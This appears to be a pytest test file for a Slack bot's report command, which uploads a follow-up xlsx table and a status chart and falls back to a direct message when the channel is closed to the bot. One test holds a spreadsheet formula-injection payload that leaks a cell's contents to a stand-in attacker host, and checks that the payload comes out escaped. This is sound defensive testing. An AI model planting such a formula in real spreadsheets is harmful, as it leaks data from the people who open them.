"""``/seuranta report``: the follow-up table and the status chart, uploaded as Slack files.

Through the real HTTP app and the fake Web API, which speaks the external upload flow that
``files_upload_v2`` drives (upload URL, raw bytes, complete), so the uploaded xlsx is read back.
"""

from __future__ import annotations

import dataclasses
import io
import json

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from reports.table import COLUMNS
from seuranta.settings import Settings
from tests.support.exports import HOSTILE_REPORTER, store_hostile_texts, xlsx_rows
from tests.support.fakeslack import FakeSlack, Upload
from tests.support.slack_requests import SignedSlack

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
CHANNEL = "C111"  # the channel of the shared slash_command payload
USER = "W111"
# The clock is fixed at tests.conftest.NOW, 2018-12-17 10:00 UTC (the same day in Helsinki).
TABLE = "seuranta-2018-12-17.xlsx"
CHART = "seuranta-status-2018-12-17.png"


def _report(slack: SignedSlack, fake_slack: FakeSlack, text: str = "report en") -> str:
    """Run the command; check the acknowledgement; return what the asker is told after."""
    reply = slack.command(text, response_url=fake_slack.webhook_url())
    assert reply.status == 200
    ack = reply.json()
    assert ack["response_type"] == "ephemeral"
    assert "…" in ack["text"]  # "preparing the report…", before anything is drawn or sent
    (outcome,) = fake_slack.wait_for("webhook", timeout=20)
    assert outcome.params["response_type"] == "ephemeral"
    return str(outcome.params["text"])


def _uploaded(fake_slack: FakeSlack, file_ids: list[str]) -> dict[str, bytes]:
    """Filename -> bytes of the files a files.completeUploadExternal call shared."""
    uploads: list[Upload] = [fake_slack.uploads[file_id] for file_id in file_ids]
    for upload in uploads:
        assert upload.content is not None
        assert len(upload.content) == upload.length  # the length declared up front is right
    return {u.filename: u.content for u in uploads if u.content is not None}


def _shared_ids(complete_params: dict[str, str]) -> list[str]:
    return [f["id"] for f in json.loads(complete_params["files"])]


def test_report_uploads_the_table_and_the_chart_to_the_channel(
    slack: SignedSlack, fake_slack: FakeSlack
) -> None:
    told = _report(slack, fake_slack)

    assert told == "The report is posted in this channel."
    asked = fake_slack.calls("files.getUploadURLExternal")
    assert [c.params["filename"] for c in asked] == [TABLE, CHART]
    (complete,) = fake_slack.calls("files.completeUploadExternal")
    assert complete.params["channel_id"] == CHANNEL
    assert complete.params["initial_comment"] == (
        "The action programme's follow-up table and status by theme"
    )
    titles = [f["title"] for f in json.loads(complete.params["files"])]
    assert titles == ["Follow-up table", "Status by theme"]
    files = _uploaded(fake_slack, _shared_ids(complete.params))
    assert sorted(files) == sorted([TABLE, CHART])
    sheet = load_workbook(io.BytesIO(files[TABLE])).active
    assert sheet is not None
    numbers = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True) if row[0]]
    assert len(numbers) == 39
    assert numbers[:2] == ["1.1", "1.2"]
    assert files[CHART].startswith(PNG_SIGNATURE)
    assert fake_slack.calls("conversations.open") == []


def test_the_report_follows_the_language_asked_for(
    slack: SignedSlack, fake_slack: FakeSlack
) -> None:
    told = _report(slack, fake_slack, "report fi")

    assert told == "Raportti on lähetetty tälle kanavalle."
    (complete,) = fake_slack.calls("files.completeUploadExternal")
    table = _uploaded(fake_slack, _shared_ids(complete.params))[TABLE]
    sheet = load_workbook(io.BytesIO(table)).active
    assert sheet is not None
    assert sheet.title == "Seuranta"


def test_a_channel_the_bot_is_not_in_gets_the_report_by_direct_message(
    slack: SignedSlack, fake_slack: FakeSlack
) -> None:
    fake_slack.fail("files.completeUploadExternal", error="not_in_channel", times=1)

    told = _report(slack, fake_slack)

    assert told == "I cannot post in this channel, so I sent the report to you as a direct message."
    (opened,) = fake_slack.calls("conversations.open")
    assert opened.params["users"] == USER
    completes = fake_slack.calls("files.completeUploadExternal")
    assert [c.params["channel_id"] for c in completes] == [CHANNEL, f"D{USER}"]
    files = _uploaded(fake_slack, _shared_ids(completes[-1].params))
    assert sorted(files) == sorted([TABLE, CHART])
    assert files[CHART].startswith(PNG_SIGNATURE)


def test_a_channel_slack_does_not_show_the_bot_also_falls_back_to_the_dm(
    slack: SignedSlack, fake_slack: FakeSlack
) -> None:
    fake_slack.fail("files.completeUploadExternal", error="channel_not_found", times=1)

    told = _report(slack, fake_slack)

    assert told == "I cannot post in this channel, so I sent the report to you as a direct message."
    completes = fake_slack.calls("files.completeUploadExternal")
    assert [c.params["channel_id"] for c in completes] == [CHANNEL, f"D{USER}"]


def test_another_slack_error_is_one_polite_line(slack: SignedSlack, fake_slack: FakeSlack) -> None:
    fake_slack.fail("files.getUploadURLExternal", error="invalid_auth")

    told = _report(slack, fake_slack)

    assert told == "Sending the report failed. Please try again in a moment."
    assert "Traceback" not in told
    assert fake_slack.calls("files.completeUploadExternal") == []
    assert fake_slack.calls("conversations.open") == []


def test_a_failed_dm_after_a_closed_channel_is_one_polite_line(
    slack: SignedSlack, fake_slack: FakeSlack
) -> None:
    fake_slack.fail("files.completeUploadExternal", error="not_in_channel", times=1)
    fake_slack.fail("conversations.open", error="missing_scope")

    told = _report(slack, fake_slack)

    assert told == "Sending the report failed. Please try again in a moment."


def test_a_failed_upload_of_the_bytes_is_one_polite_line(
    slack: SignedSlack, fake_slack: FakeSlack
) -> None:
    fake_slack.fail("upload", status=500)

    told = _report(slack, fake_slack)

    assert told == "Sending the report failed. Please try again in a moment."
    assert fake_slack.calls("files.completeUploadExternal") == []


def test_help_mentions_the_report(slack: SignedSlack) -> None:
    body = slack.command("help").json()

    texts = [b["text"]["text"] for b in body["blocks"] if b.get("type") == "section"]
    assert any("`/seuranta report`" in text for text in texts)


def _uploaded_table(fake_slack: FakeSlack) -> bytes:
    (complete,) = fake_slack.calls("files.completeUploadExternal")
    return _uploaded(fake_slack, _shared_ids(complete.params))[TABLE]


def test_hostile_notes_make_no_formula_and_do_not_break_the_report(
    slack: SignedSlack, fake_slack: FakeSlack, factory: sessionmaker[Session]
) -> None:
    store_hostile_texts(factory)

    assert _report(slack, fake_slack) == "The report is posted in this channel."

    rows = {row[0]: row for row in xlsx_rows(_uploaded_table(fake_slack))}  # every cell checked
    note, reporter = COLUMNS.index("note"), COLUMNS.index("reporter")
    assert rows["1.2"][note] == '\'=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
    assert rows["1.2"][reporter] == HOSTILE_REPORTER


class TestWithStatusNotesHidden:
    @pytest.fixture
    def slack_settings(self, slack_settings: Settings) -> Settings:
        return dataclasses.replace(slack_settings, hide_status_notes=True)

    def test_the_table_has_neither_notes_nor_who_reported(
        self, slack: SignedSlack, fake_slack: FakeSlack, factory: sessionmaker[Session]
    ) -> None:
        store_hostile_texts(factory)

        _report(slack, fake_slack)

        rows = xlsx_rows(_uploaded_table(fake_slack))
        assert "Status note" not in rows[0]
        assert "Reported by" not in rows[0]
        assert "Reported on" in rows[0]
        assert "HYPERLINK" not in str(rows)
        assert HOSTILE_REPORTER not in str(rows)
